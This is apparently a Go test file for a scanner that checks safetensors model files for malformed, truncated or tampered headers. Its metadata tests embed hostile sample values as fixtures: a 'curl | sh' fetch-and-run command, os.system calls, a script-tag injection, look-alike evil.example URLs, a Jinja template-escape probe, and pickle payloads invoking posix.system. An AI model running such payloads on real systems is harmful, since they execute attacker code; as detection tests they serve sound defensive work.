package safetensors

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"path"
	"slices"
	"strings"
	"testing"

	"bartizan/detect/artifact/format/formattest"
	"bartizan/detect/input"
	"bartizan/finding"
)

// file joins a header and n bytes of data.
func file(header string, n int) []byte {
	b := binary.LittleEndian.AppendUint64(nil, uint64(len(header)))
	b = append(b, header...)
	return append(b, make([]byte, n)...)
}

// meta is a file with one metadata value and one tensor.
func meta(key, value string) []byte {
	return file(fmt.Sprintf(`{"__metadata__":{%q:%q},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}`, key, value), 4)
}

const one = `{"a":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]}}`

func TestScan(t *testing.T) {
	tests := []struct {
		name    string
		file    []byte
		verdict finding.Verdict
		rules   []string
		reason  string
		child   string
	}{
		{name: "plain", file: file(one, 16)},
		{name: "padded header", file: file(one+"   ", 16)},
		{name: "no tensors", file: file(`{}`, 0)},
		{name: "only metadata", file: file(`{"__metadata__":{"format":"pt"}}`, 0)},
		{name: "scalar and empty", file: file(`{"a":{"dtype":"I64","shape":[],"data_offsets":[0,8]},"b":{"dtype":"I64","shape":[0,5],"data_offsets":[8,8]}}`, 8)},
		{name: "empty first", file: file(`{"b":{"dtype":"I64","shape":[0],"data_offsets":[0,0]},"a":{"dtype":"I64","shape":[],"data_offsets":[0,8]}}`, 8)},
		{name: "out of order", file: file(`{"b":{"dtype":"U8","shape":[3],"data_offsets":[2,5]},"a":{"dtype":"F16","shape":[1],"data_offsets":[0,2]}}`, 5)},
		{name: "half bytes", file: file(`{"a":{"dtype":"F4","shape":[2,3],"data_offsets":[0,3]},"b":{"dtype":"F6_E2M3","shape":[4],"data_offsets":[3,6]}}`, 6)},
		{name: "eight bits", file: file(`{"a":{"dtype":"F8_E4M3","shape":[2],"data_offsets":[0,2]},"b":{"dtype":"F8_E8M0","shape":[4],"data_offsets":[2,6]}}`, 6)},
		{name: "any blanks", file: file("{ \"a\" :\n\t{ \"shape\" : [ 1 ] , \"dtype\":\"U8\", \"data_offsets\" : [ 0 , 1 ] } }", 1)},
		{name: "surrogates", file: file(`{"\ud83d\ude00":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}`, 1)},

		{name: "tensor twice", file: file(`{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"a":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}}`, 2), verdict: finding.Block, rules: []string{"safetensors/duplicate-key"}},
		{name: "tensor twice by escape", file: file(`{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"\u0061":{"dtype":"U8","shape":[1],"data_offsets":[1,2]}}`, 2), verdict: finding.Block, rules: []string{"safetensors/duplicate-key"}},
		{name: "metadata twice", file: file(`{"__metadata__":{},"__metadata\u005f_":{}}`, 0), verdict: finding.Block, rules: []string{"safetensors/duplicate-key"}},
		{name: "metadata key twice", file: file(`{"__metadata__":{"a":"b","a":"c"}}`, 0), verdict: finding.Block, rules: []string{"safetensors/duplicate-key"}},
		{name: "field twice", file: file(`{"a":{"dtype":"U8","dtype":"U8","shape":[1],"data_offsets":[0,1]}}`, 1), verdict: finding.Block, rules: []string{"safetensors/duplicate-key"}},
		{name: "overlap", file: file(`{"a":{"dtype":"U8","shape":[3],"data_offsets":[0,3]},"b":{"dtype":"U8","shape":[3],"data_offsets":[2,5]}}`, 5), verdict: finding.Block, rules: []string{"safetensors/overlap"}},
		{name: "overlap within", file: file(`{"a":{"dtype":"U8","shape":[9],"data_offsets":[0,9]},"b":{"dtype":"U8","shape":[1],"data_offsets":[2,3]},"c":{"dtype":"U8","shape":[1],"data_offsets":[5,6]}}`, 9), verdict: finding.Block, rules: []string{"safetensors/overlap"}},
		{name: "shared", file: file(`{"a":{"dtype":"U8","shape":[3],"data_offsets":[0,3]},"b":{"dtype":"U8","shape":[3],"data_offsets":[0,3]}}`, 3), verdict: finding.Review, rules: []string{"safetensors/overlap"}},
		{name: "gap", file: file(`{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]},"b":{"dtype":"U8","shape":[1],"data_offsets":[9,10]}}`, 10), verdict: finding.Review, rules: []string{"safetensors/gap"}, child: "gap@"},
		{name: "late start", file: file(`{"a":{"dtype":"U8","shape":[1],"data_offsets":[8,9]}}`, 9), verdict: finding.Review, rules: []string{"safetensors/gap"}, child: "gap@"},
		{name: "trailing", file: file(one, 17), verdict: finding.Review, rules: []string{"safetensors/trailing-data"}, child: "trailing@"},
		{name: "trailing without tensors", file: file(`{}`, 5), verdict: finding.Review, rules: []string{"safetensors/trailing-data"}, child: "trailing@"},
		{name: "bytes after the JSON", file: file(one+"\x00\x00", 16), verdict: finding.Review, rules: []string{"safetensors/trailing-data"}, child: "header@"},
		{name: "cut download", file: file(`{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"b":{"dtype":"U8","shape":[9],"data_offsets":[4,13]}}`, 7), verdict: finding.Review, rules: []string{"safetensors/out-of-file"}, reason: "truncated"},
		{name: "out of file", file: file(`{"a":{"dtype":"U8","shape":[4096],"data_offsets":[0,4096]}}`, 7), verdict: finding.Block, rules: []string{"safetensors/out-of-file"}, reason: "truncated"},
		{name: "far offset", file: file(`{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"b":{"dtype":"U8","shape":[4],"data_offsets":[18446744073709551611,18446744073709551615]}}`, 7), verdict: finding.Block, rules: []string{"safetensors/out-of-file"}, reason: "truncated"},
		{name: "reversed", file: file(`{"a":{"dtype":"U8","shape":[4],"data_offsets":[4,0]}}`, 4), verdict: finding.Block, rules: []string{"safetensors/out-of-file"}},
		{name: "span", file: file(`{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,4]}}`, 4), verdict: finding.Block, rules: []string{"safetensors/shape-mismatch"}},
		{name: "product overflow", file: file(`{"a":{"dtype":"U8","shape":[4294967296,4294967296],"data_offsets":[0,0]}}`, 0), verdict: finding.Block, rules: []string{"safetensors/shape-mismatch"}},
		{name: "width overflow", file: file(`{"a":{"dtype":"F64","shape":[2305843009213693952],"data_offsets":[0,0]}}`, 0), verdict: finding.Block, rules: []string{"safetensors/shape-mismatch"}},
		{name: "65 bits", file: file(`{"a":{"dtype":"F64","shape":[18446744073709551616],"data_offsets":[0,0]}}`, 0), verdict: finding.Block, rules: []string{"safetensors/shape-mismatch"}, reason: "malformed"},
		{name: "header too large", file: append(binary.LittleEndian.AppendUint64(nil, 100_000_001), "{\"a\""...), verdict: finding.Block, rules: []string{"safetensors/header-too-large"}, reason: "truncated"},

		{name: "unknown dtype", file: file(`{"a":{"dtype":"F128","shape":[1],"data_offsets":[0,16]}}`, 16), verdict: finding.Review, reason: "malformed"},
		{name: "odd bits", file: file(`{"a":{"dtype":"F4","shape":[3],"data_offsets":[0,2]}}`, 2), verdict: finding.Review, reason: "malformed"},
		{name: "unknown field", file: file(`{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1],"x":[{"y":[]}]}}`, 1), verdict: finding.Review, reason: "malformed"},
		{name: "missing field", file: file(`{"a":{"dtype":"U8","shape":[1]}}`, 1), verdict: finding.Review, reason: "malformed"},
		{name: "three offsets", file: file(`{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1,2]}}`, 1), verdict: finding.Review, reason: "malformed"},
		{name: "negative shape", file: file(`{"a":{"dtype":"U8","shape":[-1],"data_offsets":[0,1]}}`, 1), verdict: finding.Review, reason: "malformed"},
		{name: "fraction", file: file(`{"a":{"dtype":"U8","shape":[1.0],"data_offsets":[0,1]}}`, 1), verdict: finding.Review, reason: "malformed"},
		{name: "tensor is no object", file: file(`{"a":[1,2]}`, 1), verdict: finding.Review, reason: "malformed"},
		{name: "metadata of numbers", file: file(`{"__metadata__":{"a":1}}`, 0), verdict: finding.Review, reason: "malformed"},
		{name: "metadata is null", file: file(`{"__metadata__":null}`, 0), verdict: finding.Review, reason: "malformed"},
		{name: "nesting", file: file(`{"__metadata__":{"a":`+strings.Repeat("[", 100)+strings.Repeat("]", 100)+`}}`, 0), verdict: finding.Review, reason: "malformed"},
		{name: "not UTF-8", file: file("{\"\xff\":{\"dtype\":\"U8\",\"shape\":[1],\"data_offsets\":[0,1]}}", 1), verdict: finding.Review, reason: "malformed"},
		{name: "cut JSON", file: file(one[:20], 16), verdict: finding.Review, reason: "malformed"},
		{name: "trailing comma", file: file(`{"__metadata__":{"a":"b",}}`, 0), verdict: finding.Review, reason: "malformed"},
		{name: "blank first", file: file(" "+one, 16), verdict: finding.Review, reason: "malformed"},
		{name: "cut header", file: file(one, 16)[:30], verdict: finding.Review, reason: "truncated"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			o := formattest.Bytes(t, "m.safetensors", tt.file, New())
			if !o.Matched {
				t.Fatal("not recognised")
			}
			if o.Verdict != tt.verdict || !slices.Equal(o.Rules(), tt.rules) {
				t.Errorf("verdict %v, rules %v, reasons %v; want %v, %v", o.Verdict, o.Rules(), o.Reasons, tt.verdict, tt.rules)
			}
			if (tt.reason != "") != (len(o.Reasons) > 0) || tt.reason != "" && !o.Has(tt.reason) {
				t.Errorf("reasons %v, want %q", o.Reasons, tt.reason)
			}
			if (tt.child != "") != (len(o.Children) > 0) || tt.child != "" && !strings.HasPrefix(o.Children[0].Name, tt.child) {
				t.Errorf("children %v, want %q", o.Children, tt.child)
			}
			for _, c := range o.Children {
				if !c.Probed {
					t.Errorf("child %s is not probed", c.Name)
				}
			}
		})
	}
}

func TestMetadata(t *testing.T) {
	clean := map[string]string{
		"format": "pt", "ss_training_comment": "trained on my cat (2023); see https://civitai.com/models/1", "ss_output_name": "cat-v1",
		"ss_sd_model_name": "/home/u/models/sd/v1-5-pruned.safetensors", "ss_training_started_at": "1690000000.12",
		"ss_tag_frequency":    `{"10_cat": {"cat": 20, "1girl": 3, "looking at viewer": 8, "(masterpiece:1.2)": 1}}`,
		"ss_bucket_info":      `{"buckets": {"0": {"resolution": [512, 512], "count": 20}}, "mean_img_ar_error": 0.0}`,
		"ss_network_args":     `{"conv_dim": "8", "algo": "lora"}`,
		"modelspec.thumbnail": "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQAAAQABAAD",
		"modelspec.license":   "https://example.org/licence.txt", "download_url": "https://huggingface.co/x/resolve/main/y.safetensors",
		"prompt": "a cat, {{masterpiece}}, {a|b|c}", "sshs_model_hash": "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"ss_optimizer": "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.1,betas=(0.9, 0.99))",
		"homepage":     "https://example.com/model", "description": "Use eval() before inference; don't call os.system(x).",
	}
	for k, v := range clean {
		if o := formattest.Bytes(t, "m.safetensors", meta(k, v), New()); o.Verdict != finding.Clean || len(o.Children) > 0 {
			t.Errorf("%s = %q: %v %v %v", k, v, o.Verdict, o.Findings, o.Children)
		}
	}
	review := map[string]string{
		"a": "import os; os.system('id')", "b": "curl http://x/y | sh", "c": "<script>alert(1)</script>",
		"callback_url": "http://evil.example/x", "download_url": "https://huggingface.co.evil.example/x", "webhook": "https://huggingface.co@evil.example/",
	}
	for k, v := range review {
		o := formattest.Bytes(t, "m.safetensors", meta(k, v), New())
		if o.Verdict != finding.Review || !slices.Equal(o.Rules(), []string{"safetensors/metadata"}) {
			t.Errorf("%s = %q: %v %v", k, v, o.Verdict, o.Rules())
		}
	}
	pickle := "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
	handed := []struct {
		key, value, hint string
		probed           bool
		want             string
	}{
		{"chat_template", "{% for m in messages %}{{ m }}{% endfor %}", "jinja", false, "{% for"},
		{"x", "{{ ''.__class__.__mro__ }}", "jinja", false, "{{ ''"},
		{"y", base64.StdEncoding.EncodeToString([]byte(pickle)), "", true, "\x80\x04"},
		{"z", "cposix\nsystem\n(S'id'\ntR.", "", true, "cposix"},
		{"w", base64.RawURLEncoding.EncodeToString([]byte("cposix\nsystem\n(S'id'\ntR.")), "", true, "cposix"},
	}
	for _, h := range handed {
		o := formattest.Bytes(t, "m.safetensors", meta(h.key, h.value), New())
		if len(o.Children) != 1 || o.Children[0].Hint != h.hint || o.Children[0].Probed != h.probed {
			t.Errorf("%s: children %+v", h.key, o.Children)
			continue
		}
		if b, _ := o.Children[0].Blob.Head(64); !strings.HasPrefix(string(b), h.want) {
			t.Errorf("%s: child %q, want %q", h.key, b, h.want)
		}
	}
}

func TestMatchByContent(t *testing.T) {
	p := formattest.Probe(t, "weights.bin", input.FromBytes(file(one, 16)))
	if !New().Match(p) {
		t.Error("not recognised without its extension")
	}
	for _, s := range []string{"{\"a\": 1, \"b\": 2}", "hello wo{\"a\"", "\x80\x04\x95\x00\x00\x00\x00\x00{\"", ""} {
		if New().Match(formattest.Probe(t, "x.bin", input.FromBytes([]byte(s)))) {
			t.Errorf("%q is recognised", s)
		}
	}
}

func TestSparseFileIsNotRead(t *testing.T) {
	const size = 10 << 30
	header := fmt.Sprintf(`{"a":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}`, size-1024, size-1024)
	header += strings.Repeat(" ", 1024-8-len(header))
	b, c := formattest.Sparse(t, file(header, 0), size)
	o := formattest.Run(t, "m.safetensors", b, New())
	if o.Verdict != finding.Clean || o.Coverage != finding.Complete {
		t.Errorf("%v %v %v", o.Verdict, o.Coverage, o.Reasons)
	}
	if c.Read >= 1<<20 {
		t.Errorf("%d bytes read", c.Read)
	}
}

func TestManyTensors(t *testing.T) {
	var h bytes.Buffer
	h.WriteByte('{')
	const n = 20000
	for i := 0; i < n; i++ {
		name := i
		if i == n-1 {
			name = 17
		}
		fmt.Fprintf(&h, `"t%d":{"dtype":"U8","shape":[1],"data_offsets":[%d,%d]},`, name, i, i+1)
	}
	h.Truncate(h.Len() - 1)
	h.WriteByte('}')
	o := formattest.Bytes(t, "m.safetensors", file(h.String(), n), New())
	if !slices.Equal(o.Rules(), []string{"safetensors/duplicate-key"}) || len(o.Findings) != 1 {
		t.Errorf("%v %v", o.Rules(), o.Reasons)
	}
}

func TestCorpus(t *testing.T) {
	seen := 0
	formattest.Corpus(t, "modelaudit", func(name string, b []byte) {
		if !strings.HasSuffix(name, ".safetensors") {
			return
		}
		seen++
		want := finding.Review
		if strings.HasPrefix(path.Base(name), "safe_") {
			want = finding.Clean
		}
		if o := formattest.Bytes(t, name, b, New()); o.Verdict != want || o.Coverage != finding.Complete {
			t.Errorf("%s: %v %v %v, want %v", name, o.Verdict, o.Rules(), o.Reasons, want)
		}
	})
	if seen != 7 {
		t.Errorf("%d files, want 7", seen)
	}
}

func TestRules(t *testing.T) {
	if _, err := finding.NewCatalogue(Rules()); err != nil {
		t.Error(err)
	}
}

func FuzzScan(f *testing.F) {
	f.Add(file(one, 16))
	f.Add(file(`{"__metadata__":{"a":"\ud83d\ude00","chat_template":"{{x}}"},"b":{"dtype":"F4","shape":[2,1],"data_offsets":[0,1]}}`, 3))
	f.Add(meta("a", "import os; os.system('id')"))
	f.Add(meta("a", "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="))
	f.Fuzz(func(t *testing.T, b []byte) {
		o := formattest.Bytes(t, "m.safetensors", b, New())
		if o.Matched && o.Verdict == finding.Clean {
			if n := binary.LittleEndian.Uint64(b); n > uint64(len(b)-8) {
				t.Error("clean with a header past the end")
			}
		}
	})
}

func BenchmarkScan(b *testing.B) {
	var h bytes.Buffer
	h.WriteString(`{"__metadata__":{"format":"pt"}`)
	for i := 0; i < 1000; i++ {
		fmt.Fprintf(&h, `,"model.layers.%d.self_attn.q_proj.weight":{"dtype":"BF16","shape":[4,2],"data_offsets":[%d,%d]}`, i, i*16, i*16+16)
	}
	h.WriteByte('}')
	data := file(h.String(), 16000)
	b.SetBytes(int64(h.Len()))
	b.ReportAllocs()
	for b.Loop() {
		formattest.Bytes(b, "m.safetensors", data, New())
	}
}
